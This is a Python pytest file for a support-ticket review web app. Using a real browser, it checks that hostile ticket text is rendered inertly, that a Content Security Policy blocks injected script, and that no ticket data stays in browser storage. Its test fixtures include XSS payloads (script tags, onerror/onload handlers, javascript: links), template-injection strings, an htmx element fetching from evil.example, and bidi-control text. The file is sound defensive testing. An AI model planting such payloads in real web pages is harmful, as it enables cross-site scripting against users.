"""Texts of strangers in a real browser: shown as they are, and doing nothing."""

from typing import Any

import pytest
from made_suggestions import make_article, make_suggestion, predict

from triage.store import LabelDoubt
from triage.suggestion import TermWeight

TEXTS = {
    "script": "<script>window.evil = 1</script>",
    "handler": "<img src=x onerror='window.evil = 2'><svg onload='window.evil = 3'>",
    "breaking out": "\"><script>window.evil = 4</script><a href='javascript:window.evil = 5'>",
    "template": "{{ config }}{% for x in y %}${7*7}#{7*7}{{constructor.constructor('alert(1)')()}}",
    "htmx": "<div hx-get='https://evil.example/' hx-trigger='load' hx-on:load='window.evil = 6'>",
    "direction": "\u202eneuftsegnie\u202c \u2066hidden\u2069 \u200f",
    "long": "word" * 2500,
    "long words": ("a very long ticket " * 600)[:10_000],
    "right to left": "שלום, החשבון שלי נעול. مرحبا، حسابي مقفل.",
    "signs": "a\u0300\u0301\u0302\u0303" * 50 + " \U0001f600" * 50 + "\ufffd",
}


@pytest.mark.parametrize("kind", TEXTS)
def test_strange_texts_labels_and_titles_are_inert(desk: Any, visiting: Any, kind: str) -> None:
    text = TEXTS[kind]
    number = 600 + list(TEXTS).index(kind)
    record = make_suggestion(
        number,
        subject=text,
        description=f"{text}\n{text}"[:20_000],
        ticket_id=text[:180],
        articles=[make_article(text, url=f"https://kb.example/{number}")],
        category=predict(text[:180], (text[:180], 0.6), ("vpn", 0.3), name=text[:180]),
        warnings=[text],
        missing_details=[text],
        explanation={"tier": [TermWeight(text.lower(), 1.0)]},
    )
    model = f"hostile {number}"
    [one] = desk.fill(model, [record])
    doubt = LabelDoubt(text[:180], "category", text, text, text[:180], "vpn", 0.9)
    desk.store.label_doubts.save([doubt])
    visit = visiting("Ada", f"/review?model={model}", viewport={"width": 700, "height": 700})
    places = (f"/review?model={model}", f"/review/{one}?model={model}")

    seen = []
    for path in (*places, f"/review/labels/{doubt.id}", "/review/labels"):
        visit.open(path)
        visit.page.wait_for_timeout(50)
        seen.append(
            visit.page.evaluate(
                "[window.evil || 0, document.querySelectorAll('#content script, #content img,"
                " #content [hx-get], #content [onload]').length,"
                " document.documentElement.scrollWidth <= innerWidth]"
            )
        )
    visit.open(places[1])
    visit.press("c")
    visit.page.keyboard.type("vpn")
    visit.decide("Enter")

    assert seen == [[0, 0, True]] * 4
    assert visit.page.evaluate("window.evil || 0") == 0
    [said] = desk.store.feedback.about(one)
    assert said.category == "vpn"


def test_policy_keeps_a_page_from_running_what_is_not_ours(desk: Any, visiting: Any) -> None:
    visit = visiting("Ada")

    blocked = visit.page.evaluate(
        "new Promise(done => { document.addEventListener('securitypolicyviolation',"
        " event => done(event.violatedDirective));"
        " const script = document.createElement('script'); script.textContent = 'window.evil = 1';"
        " document.body.append(script); })"
    )

    assert blocked.startswith("script-src")
    assert visit.page.evaluate("window.evil || 0") == 0
    visit.faults[:] = [fault for fault in visit.faults if "Content Security Policy" not in fault]


def test_nothing_of_a_ticket_stays_in_the_browser(desk: Any, visiting: Any) -> None:
    [one] = desk.fill("traces", [make_suggestion(690, subject="canary in the mine")])
    visit = visiting("Ada", f"/review/{one}?model=traces")

    visit.page.get_by_label("Unlock the account.").check()
    visit.decide("g")
    kept = visit.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])")

    assert one in kept
    assert "canary" not in kept
    assert "document.cookie" not in kept and visit.page.evaluate("document.cookie") == ""
